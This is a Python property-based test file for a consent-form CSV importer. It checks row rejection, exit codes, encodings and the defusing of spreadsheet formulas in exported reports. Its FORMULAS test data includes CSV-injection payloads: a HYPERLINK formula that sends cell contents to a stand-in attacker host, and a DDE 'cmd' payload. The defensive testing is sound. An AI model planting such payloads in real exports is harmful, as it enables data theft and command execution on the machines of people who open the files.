"""Malformed exports, generated: whatever the file holds, the import never shows a traceback,
names every row it rejects, keeps every good row, and exits 0 or 65. A report exported
afterwards never lets a cell start a spreadsheet formula."""

from __future__ import annotations

import csv
import io
import json
import tempfile
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from config.errors import BadInput
from config.schema import ConsentSettings
from consent.parse import COLUMNS, MAX_CELL, read_export
from tests.consent.conftest import add_post, form, sessions_of, write_export
from tests.sandboxed import Setup
from tests.tiers import examples

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=1+1", "+44 20", "-2+3",
            "@SUM(A1:A9)", "=cmd|' /C calc'!A0", "\t=1", "\r=1"]  # fmt: skip
GARBAGE_DATES = ["next tuesday", "31/02/2020", "2020-13-01", "0", "99999", "yesterday-ish",
                 "12/31/2020", "2020-02-30T25:61", "—"]  # fmt: skip
# Anything a person may type into a form, formulas included: kept as text on import.
free_text = st.one_of(
    st.sampled_from(FORMULAS),
    st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=40),
    st.text(alphabet=" ,;\"\n\r'", max_size=6),
)
good_dates = st.one_of(
    st.dates(min_value=__import__("datetime").date(1950, 1, 1)).map(str),
    st.integers(1000, 60000).map(str),  # Excel serial days (4-5 digits)
    st.just(""),
)


@dataclass
class Row:
    cells: dict[str, str]
    bad: str | None  # the column that makes it bad, None for a good row


@st.composite
def good_row(draw: st.DrawFn, n: int) -> Row:
    cells = {c: draw(free_text) for c in ("city", "country", "email", "x_handle", "signature")}
    cells.update(
        response_id=f"G{n}",
        full_name=draw(st.one_of(st.sampled_from(FORMULAS), free_text).filter(str.strip)),
        age=draw(st.one_of(st.just(""), st.integers(1, 119).map(str))),
        date_of_birth=draw(good_dates),
        submitted_at=draw(good_dates),
        guardian_signed=draw(st.sampled_from(["", "yes", "No", "TRUE", "0", "oui"])),
        video_urls=draw(st.sampled_from(["", "https://youtu.be/dQw4w9WgXcQ", "a;b\nc"])),
    )
    return Row(cells, None)


@st.composite
def bad_row(draw: st.DrawFn, n: int) -> Row:
    row = draw(good_row(n))
    column = draw(st.sampled_from(["age", "submitted_at", "expires_at", "date_of_birth",
                                   "guardian_signed", "huge", "full_name", "response_id",
                                   "nul"]))  # fmt: skip
    cells = row.cells
    if column == "age":
        cells["age"] = draw(st.sampled_from(["twelve", "-4", "0", "150", "12.5", "1e3", "=A1"]))
    elif column in ("submitted_at", "expires_at", "date_of_birth"):
        cells[column] = draw(st.sampled_from(GARBAGE_DATES))
    elif column == "guardian_signed":
        cells["guardian_signed"] = draw(st.sampled_from(["maybe", "=TRUE()", "ja bitte"]))
    elif column == "huge":
        cells[draw(st.sampled_from(["city", "full_name", "signature"]))] = "x" * draw(
            st.sampled_from([MAX_CELL + 1, 200_000])
        )
    elif column == "nul":
        cells["city"] = "Nai\x00robi"
    elif column == "full_name":
        cells["full_name"] = draw(st.sampled_from(["", "   "]))
    else:
        cells["response_id"] = ""
    return Row(cells, column)


@st.composite
def exports(draw: st.DrawFn) -> tuple[bytes, list[Row]]:
    columns = draw(st.permutations(COLUMNS))
    kinds = draw(st.lists(st.booleans(), min_size=1, max_size=8))
    rows = [draw(bad_row(n) if bad else good_row(n)) for n, bad in enumerate(kinds)]
    delimiter = draw(st.sampled_from([",", ";"]))
    # some form tools quote every cell, most only those that need it
    quoting = draw(st.sampled_from([csv.QUOTE_MINIMAL, csv.QUOTE_ALL]))
    out = io.StringIO()
    writer = csv.DictWriter(
        out, fieldnames=columns, delimiter=delimiter, restval="", quoting=quoting
    )
    writer.writeheader()
    for row in rows:
        writer.writerow(row.cells)
    encoding = draw(st.sampled_from(["utf-8", "utf-8-sig"]))
    return out.getvalue().encode(encoding), rows


def _read(data: bytes, suffix: str = ".csv") -> Any:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / f"export{suffix}"
        path.write_bytes(data)
        return read_export(path, ConsentSettings())


@settings(max_examples=examples(150), deadline=None)
@given(exports())
def test_every_row_is_kept_or_named(export: tuple[bytes, list[Row]]) -> None:
    data, rows = export
    parsed = _read(data)
    kept = {f.row: f for f in parsed.forms}
    named = {int(line.split(": row ")[1].split(":")[0]): line for line in parsed.rejected}
    for number, row in enumerate(rows, start=2):
        if row.bad is None:
            assert number in kept, (row, parsed.rejected)
            assert kept[number].values["full_name"] == row.cells["full_name"].strip()
        elif any(v.strip() for v in row.cells.values()):
            assert number in named, row.bad
    assert set(kept).isdisjoint(named)
    assert len(kept) + len(named) == len(parsed.forms) + len(parsed.rejected)


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=400), st.sampled_from([".csv", ".xlsx", ".txt"]))
def test_any_bytes_are_read_or_refused_as_bad_input(data: bytes, suffix: str) -> None:
    try:
        parsed = _read(data, suffix)
    except BadInput as exc:
        assert "export" in str(exc)  # the message names the file
        return
    assert all(": row " in line for line in parsed.rejected)


@settings(max_examples=50, deadline=None)
@given(
    st.text(
        # the name's own commas, quotes and line ends would break the row for another reason
        alphabet=st.characters(blacklist_characters=',"\r\n'),
        min_size=1,
        max_size=60,
    ),
    st.sampled_from(["latin-1", "utf-16", "cp1252"]),
)
def test_other_encodings_reject_the_rows_they_break_with_a_hint(name: str, encoding: str) -> None:
    text = f"response_id,full_name\nR1,Léa {name}\nR2,Plain\n"
    try:
        data = text.encode(encoding)
    except UnicodeEncodeError:
        return
    try:
        data.decode("utf-8")
        return
    except UnicodeDecodeError:
        pass
    try:
        parsed = _read(data)
    except BadInput as exc:  # the header itself is not UTF-8 (UTF-16): the file is refused
        assert "UTF-8" in str(exc)
        return
    assert any(": row 2: " in line and "UTF-8" in line for line in parsed.rejected)
    assert "R2" in {f.values["response_id"] for f in parsed.forms}  # the other rows are kept


@settings(max_examples=40, deadline=None)
@given(st.permutations(COLUMNS), st.sampled_from(["response_id", "full_name"]))
def test_a_missing_required_column_is_named(columns: list[str], missing: str) -> None:
    header = ",".join(c for c in columns if c != missing)
    with pytest.raises(BadInput) as caught:
        _read(f"{header}\n{','.join('x' for _ in columns[1:])}\n".encode())
    assert missing in str(caught.value) and "export.csv" in str(caught.value)


@settings(
    max_examples=examples(20),
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(exports())
def test_the_command_exits_0_or_65_and_never_shows_a_traceback(
    desk: Setup, export: tuple[bytes, list[Row]]
) -> None:
    data, rows = export
    path = desk.path / "export.csv"
    path.write_bytes(data)
    outcome = desk.cli("consent", "import", str(path))
    rejected = [r for r in rows if r.bad is not None and any(v.strip() for v in r.cells.values())]
    assert outcome.exit_code == (65 if rejected else 0), outcome.stderr
    assert "Traceback" not in outcome.stderr + outcome.stdout
    assert len(outcome.stderr.strip().splitlines()) == len(rejected)
    listed = {r["response_id"] for r in json.loads(desk.cli("consent", "list", "--json").stdout)}
    assert {r.cells["response_id"] for r in rows if r.bad is None} <= listed


def test_an_exported_report_never_starts_a_cell_with_a_formula(desk: Setup) -> None:
    rows = [
        form(f"=R{n}", formula, city=formula, country=formula, x_handle=f"h{n}")
        for n, formula in enumerate(FORMULAS)
    ]
    assert (
        desk.cli("consent", "import", str(write_export(desk.path / "f.csv", rows))).exit_code == 0
    )
    sessions = sessions_of(desk)
    for n in range(len(FORMULAS)):
        add_post(sessions, "x", str(n), handle=f"h{n}", name=FORMULAS[n], text=FORMULAS[n])
    assert desk.cli("match").exit_code == 0
    for fmt in ("csv", "json"):
        outcome = desk.cli("export", "--format", fmt)
        assert outcome.exit_code == 0, outcome.stderr
        if fmt == "csv":
            cells = [c for line in csv.reader(io.StringIO(outcome.stdout)) for c in line]
        else:
            cells = [
                v
                for item in json.loads(outcome.stdout)
                for v in item.values()
                if isinstance(v, str)
            ]
        assert any("HYPERLINK" in c for c in cells)  # the data is there, only defused
        assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]


@settings(max_examples=300, deadline=None)
@given(
    st.one_of(
        st.text(),
        st.sampled_from(["http://[abc", "x.com/[a", "https://x.com/a]b", "//", "@", "https://"]),
    )
)
def test_whatever_a_form_says_the_normalisers_never_fail(value: str) -> None:
    from consent import normalise

    normalise.handle(value)
    normalise.video_key(value)
    normalise.youtube_channel(value)
    normalise.facebook_profile(value)
    normalise.text(value)
